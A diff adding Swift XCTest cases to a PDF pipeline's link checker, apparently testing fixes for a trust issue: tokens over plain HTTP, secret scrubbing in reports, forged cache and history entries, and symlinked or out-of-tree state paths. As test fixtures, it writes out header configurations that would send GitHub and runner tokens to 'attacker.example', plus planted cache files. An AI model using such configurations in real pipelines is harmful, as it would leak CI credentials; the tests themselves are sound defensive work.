@@ -544,28 +544,104 @@ final class ExternalLinkTests: XCTestCase {
         XCTAssertEqual(try serverLog(), [], "offline: no request")
     }
 
+    /// The trust issue (#60), 1: under the action, the token went to `http://github.com` in clear
+    /// text, and a pipeline header `${PDFPIPE_GITHUB_TOKEN}` sent it to any host. Here the fixture
+    /// is a plain-http proxy that records what reaches it: the token never does, and a pipeline
+    /// that names the token is refused before any request.
+    func testTheActionsTokenNeverGoesOverPlainHTTPNorWhereThePipelineSays() throws {
+        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
+        try writeLinks(
+            dir + "/in/a.pdf",
+            [
+                "http://github.com/o/r", "http://api.github.com/repos/o/r", "http://raw.githubusercontent.com/o/r/f",
+                "http://attacker.example/collect",
+            ])
+        let token = "ghs_recordedtoken0123456789"
+        let environment = [
+            "PDFPIPE_GITHUB_TOKEN": token, "ACTIONS_RUNTIME_TOKEN": "runtime-0123456789",
+            "http_proxy": "http://127.0.0.1:\(port)", "no_proxy": "",
+        ]
+        let (code, report, stderr) = try run(
+            #"{"enabled": true, "confirmFailures": false, "retries": 0}"#, environment: environment)
+        XCTAssertTrue(code == 0 || code == 1, stderr)
+        XCTAssertEqual(links(report).count, 4)
+        let log = try serverLog()
+        XCTAssertEqual(Set(log.map { $0[1] }).count, 4, "every link went through the proxy: \(log)")
+        XCTAssertEqual(Set(log.map { $0[4] }), [""], "no Authorization over plain http")
+        for header in [
+            #"[{"name": "X-Leak", "value": "${PDFPIPE_GITHUB_TOKEN}", "hosts": "attacker.example"}]"#,
+            #"[{"name": "X-Leak", "value": "${ACTIONS_RUNTIME_TOKEN}", "hosts": "attacker.example"}]"#,
+            #"[{"name": "X-Leak", "value": "${GITHUB_TOKEN}"}]"#,
+        ] {
+            let (refused, _, message) = try run(
+                #"{"enabled": true, "headers": \#(header)}"#,
+                environment: environment.merging(["PDFPIPE_SECRETS": "PDFPIPE_GITHUB_TOKEN=attacker.example"]) { $1 })
+            XCTAssertEqual(refused, 2, message)
+            XCTAssertTrue(message.contains("never reaches the action's or the runner's tokens"), message)
+            XCTAssertFalse(message.contains(token))
+        }
+        XCTAssertEqual(try serverLog().count, log.count, "refused before any request")
+    }
+
+    /// The trust issue (#60), 1: a URL carrying a secret (a link, its redirect chain, its final
+    /// URL) was written unscrubbed to every report. Every file written and the console are
+    /// scrubbed of every spelling of it.
+    func testASecretInAURLIsScrubbedFromEverythingWritten() throws {
+        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
+        let secret = "leaky-secret-0123456789"
+        try writeLinks(
+            dir + "/in/a.pdf",
+            [
+                base + "/r/302/status/404?k=" + secret, base + "/chain?k=" + secret,
+                base + "/status/410?e=leaky%2Dsecret-0123456789",
+            ])
+        let (code, report, stderr) = try run(
+            #"{"enabled": true, "allowPrivateAddresses": true, "confirmFailures": false, "retries": 0}"#,
+            environment: ["DOCS_TOKEN": secret, "PDFPIPE_SECRETS": "DOCS_TOKEN=docs.example.com"],
+            flags: ["--format", "json,sarif,junit,markdown,html,github"])
+        XCTAssertEqual(code, 1, stderr)
+        XCTAssertEqual(links(report).count, 3)
+        XCTAssertTrue(
+            links(report).allSatisfy { $0["uri"]?.stringValue?.contains("***") == true }, "\(links(report))")
+        var files = 0
+        for file in FileManager.default.enumerator(atPath: dir + "/out")!.compactMap({ $0 as? String }) {
+            guard let data = FileManager.default.contents(atPath: dir + "/out/" + file) else { continue }
+            let text = String(decoding: data, as: UTF8.self)
+            files += 1
+            XCTAssertFalse(text.contains("leaky-secret") || text.contains("leaky%2Dsecret"), file)
+        }
+        XCTAssertGreaterThanOrEqual(files, 6, "report.json, results.jsonl, SARIF, JUnit, Markdown, HTML")
+        XCTAssertFalse(stderr.contains("leaky"), stderr)
+    }
+
     func testHeadersRemapExcludeAndSecrets() throws {
         try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
         try writeLinks(dir + "/in/a.pdf", [base + "/old/ok", base + "/status/404", base + "/private/x"])
         let options = #"""
             {"enabled": true, "allowPrivateAddresses": true, "confirmFailures": false, "exclude": ["/private/"], "remap": [{"pattern": "/old/(.*)$", "replacement": "/$1"}],
-             "headers": [{"name": "X-Token", "value": "Bearer ${PDFPIPE_TEST_TOKEN}"}], "userAgent": "audit-bot/1"}
+             "headers": [{"name": "X-Token", "value": "Bearer ${PDFPIPE_TEST_TOKEN}", "hosts": "127.0.0.1"},
+                         {"name": "X-Plain", "value": "not a secret"}], "userAgent": "audit-bot/1"}
             """#
-        let (_, report, stderr) = try run(options, environment: ["PDFPIPE_TEST_TOKEN": "s3cr3t-value"])
+        let (_, report, stderr) = try run(
+            options,
+            environment: ["PDFPIPE_TEST_TOKEN": "s3cr3t-value", "PDFPIPE_SECRETS": "PDFPIPE_TEST_TOKEN=127.0.0.1"])
         XCTAssertEqual(
             links(report).map { $0["check"]?["outcome"]?.stringValue ?? "-" }, ["ok", "http-error", "skipped"])
         XCTAssertEqual(links(report).dropFirst(2).first?["check"]?["reason"], "excluded")
         let log = try serverLog()
         XCTAssertEqual(
             log.map { $0[1] }.sorted(), ["/ok", "/status/404", "/status/404"], "remapped, excluded one not requested")
-        XCTAssertEqual(Set(log.map { $0[2] }), ["Bearer s3cr3t-value"])
+        // A header with a secret goes over https only (docs/security.md): never to this plain-http
+        // server, although its owner handed it over for this host.
+        XCTAssertEqual(Set(log.map { $0[2] }), [""])
         for file in try FileManager.default.contentsOfDirectory(atPath: dir + "/out") {
             XCTAssertFalse(try String(contentsOfFile: dir + "/out/" + file, encoding: .utf8).contains("s3cr3t"), file)
         }
         XCTAssertFalse(stderr.contains("s3cr3t"))
         // A missing variable is a pipeline error naming the JSON path.
         let (code, _, message) = try run(
-            #"{"enabled": true, "headers": [{"name": "X-Token", "value": "${PDFPIPE_NOT_SET_ANYWHERE}"}]}"#)
+            #"{"enabled": true, "headers": [{"name": "X-Token", "value": "${PDFPIPE_NOT_SET_ANYWHERE}", "hosts": "a.example"}]}"#,
+            environment: ["PDFPIPE_SECRETS": "PDFPIPE_NOT_SET_ANYWHERE=a.example"])
         XCTAssertEqual(code, 2)
         XCTAssertTrue(message.contains("stages[0].with.external.headers[0].value"), message)
         XCTAssertTrue(message.contains("'PDFPIPE_NOT_SET_ANYWHERE' is not set"), message)
@@ -744,6 +820,115 @@ final class ExternalLinkTests: XCTestCase {
         let (bad, _, message) = try run(#"{"enabled": true, "confirmRuns": 2}"#)
         XCTAssertEqual(bad, 2)
         XCTAssert(message.contains("confirmRuns counts the runs a link failed in a file beside the cache"), message)
+    }
+
+    /// The trust issue (#60), 2: a committed cache entry (or a shard's shared entry) saying a dead
+    /// URL answered 200 a minute ago made the link `ok` for a day. Entries carry a MAC under a key
+    /// outside the workspace (`StateSeal`): a planted one is not read, the URL is asked, the link
+    /// is broken.
+    func testAPlantedCacheOrSharedEntryDoesNotMakeADeadLinkOK() throws {
+        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(atPath: dir + "/c/links.shared", withIntermediateDirectories: true)
+        let dead = base + "/status/404"
+        try writeLinks(dir + "/in/a.pdf", [dead])
+        let now = Date().timeIntervalSince1970 - 60
+        let entry =
+            #"{"url": "\#(dead)", "finalURL": "\#(dead)", "status": 200, "attempts": 1, "checkedAt": \#(now), "redirects": [], "mac": "00"}"#
+        try #"{"version": 1, "entries": {"\#(dead)": \#(entry)}}"#.write(
+            toFile: dir + "/c/links.json", atomically: true, encoding: .utf8)
+        // The shared entry's file name: FNV-1a of the URL, as URLChecker names it.
+        var hash: UInt64 = 0xcbf2_9ce4_8422_2325
+        for b in dead.utf8 { hash = (hash ^ UInt64(b)) &* 0x100_0000_01b3 }
+        try entry.write(
+            toFile: dir + "/c/links.shared/\(String(hash, radix: 16)).json", atomically: true, encoding: .utf8)
+        let options =
+            #"{"enabled": true, "allowPrivateAddresses": true, "confirmFailures": false, "retries": 0, "cache": {"path": "\#(dir)/c/links.json"}}"#
+        for flags in [[], ["--shard", "1/1"], ["--shard", "1/2"]] {
+            let before = try serverLog().count
+            let (status, report, stderr) = try run(options, flags: flags)
+            XCTAssertEqual(status, 1, "\(flags): \(stderr)")
+            XCTAssertEqual(links(report).first?["check"]?["outcome"], "http-error", "\(flags)")
+            XCTAssertEqual(links(report).first?["check"]?["fromCache"], false, "\(flags)")
+            XCTAssertGreaterThan(try serverLog().count, before, "\(flags): asked again")
+            // Put the planted file back for the next variant (the run rewrote the cache).
+            try #"{"version": 1, "entries": {"\#(dead)": \#(entry)}}"#.write(
+                toFile: dir + "/c/links.json", atomically: true, encoding: .utf8)
+        }
+        // What this machine sealed is read back (a 404 is cached: the next run asks nothing).
+        let (_, _, _) = try run(options)
+        let before = try serverLog().count
+        let (_, again, _) = try run(options)
+        XCTAssertEqual(links(again).first?["check"]?["fromCache"], true)
+        XCTAssertEqual(try serverLog().count, before)
+        let cache = try JSONParser.parse(String(contentsOfFile: dir + "/c/links.json", encoding: .utf8))
+        XCTAssertEqual(cache["entries"]?[dead]?["mac"]?.stringValue?.count, 64, "sealed: HMAC-SHA256 in hex")
+    }
+
+    /// The trust issue (#60), 2: a history entry with failures = Int64.max crashed every later run
+    /// (an overflow, no report), a 60 MB history cost 30–54 s and 1.27 GB and was never pruned, and
+    /// a symbolic link as the cache folder wrote the run's state outside the workspace.
+    func testAPlantedHistoryOrLinkedStateFolderChangesNothing() throws {
+        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(atPath: dir + "/c", withIntermediateDirectories: true)
+        let dead = base + "/status/404"
+        try writeLinks(dir + "/in/a.pdf", [dead, base + "/ok"])
+        let options =
+            #"{"enabled": true, "allowPrivateAddresses": true, "confirmRuns": 3, "confirmFailures": false, "cache": {"path": "\#(dir)/c/links.json"}}"#
+        let planted =
+            #"{"failures": 9223372036854775807, "firstFailed": "2020-01-01T00:00:00Z", "lastFailed": "2026-01-01T00:00:00Z", "run": "x"}"#
+        try #"{"version": 1, "entries": {"\#(dead)": \#(planted)}}"#.write(
+            toFile: dir + "/c/links.history.json", atomically: true, encoding: .utf8)
+        let (status, report, stderr) = try run(options, environment: ["PDFPIPE_RUN_ID": "r1"])
+        XCTAssertEqual(status, 0, "the planted count is not read: the first failure is uri.flaky. \(stderr)")
+        XCTAssertEqual(links(report).first?["check"]?["outcome"], "flaky")
+        let history = try JSONParser.parse(String(contentsOfFile: dir + "/c/links.history.json", encoding: .utf8))
+        XCTAssertEqual(history["entries"]?[dead]?["failures"], 1, "rewritten from this run's verdicts")
+
+        // A history far past its size limit is not read, and is rewritten small.
+        var big = #"{"version": 1, "entries": {"#
+        let filler =
+            #"{"failures": 2, "firstFailed": "2026-01-01T00:00:00Z", "lastFailed": "2026-01-01T00:00:00Z", "run": "x"}"#
+        var parts: [String] = []
+        for i in 0..<60_000 { parts.append(#""https://x.example/\#(i)": \#(filler)"#) }
+        big += parts.joined(separator: ",") + "}}"
+        try big.write(toFile: dir + "/c/links.history.json", atomically: true, encoding: .utf8)
+        XCTAssertGreaterThan(big.utf8.count, 4 << 20)
+        let (bigStatus, _, _) = try run(options, environment: ["PDFPIPE_RUN_ID": "r2"])
+        XCTAssertEqual(bigStatus, 0)
+        let size = try FileManager.default.attributesOfItem(atPath: dir + "/c/links.history.json")[.size] as? Int
+        XCTAssertLessThan(size ?? .max, 4096, "rewritten with this run's one failing link")
+
+        // A symbolic link on the way to the state is refused before any work, naming it.
+        let elsewhere = dir + "/elsewhere"
+        try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
+        let work = dir + "/work"
+        try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
+        try FileManager.default.createSymbolicLink(atPath: work + "/.pdfpipe-cache", withDestinationPath: elsewhere)
+        try
+            #"{"stages": [{"use": "validate-links", "with": {"external": {"enabled": true, "cache": {"path": ".pdfpipe-cache/links.json"}}}}]}"#
+            .write(toFile: work + "/p.json", atomically: true, encoding: .utf8)
+        for pipeline in ["p.json"] {
+            let p = Process()
+            p.executableURL = URL(fileURLWithPath: try Repo.executable())
+            p.arguments = ["run", pipeline, dir + "/in", "--out", work + "/out", "--quiet"]
+            p.currentDirectoryURL = URL(fileURLWithPath: work)
+            let err = Pipe()
+            p.standardError = err
+            try p.run()
+            let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
+            p.waitUntilExit()
+            XCTAssertEqual(p.terminationStatus, 2, message)
+            XCTAssertTrue(message.contains("'.pdfpipe-cache' is a symbolic link"), message)
+        }
+        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: elsewhere), [], "nothing written through it")
+        // A pipeline file cannot point the state elsewhere on the machine.
+        try
+            #"{"stages": [{"use": "validate-links", "with": {"external": {"enabled": true, "cache": {"path": "/etc/pdfpipe-planted.json"}}}}]}"#
+            .write(toFile: work + "/q.json", atomically: true, encoding: .utf8)
+        let (outside, _, outsideMessage) = try run(
+            #"{"enabled": true, "cache": {"path": "/etc/pdfpipe-planted.json"}}"#)
+        XCTAssertEqual(outside, 2)
+        XCTAssertTrue(outsideMessage.contains("is outside the working folder"), outsideMessage)
     }
 
     /// (#43, 1) Many documents' URLs are in flight at once: a document's web verdicts are joined
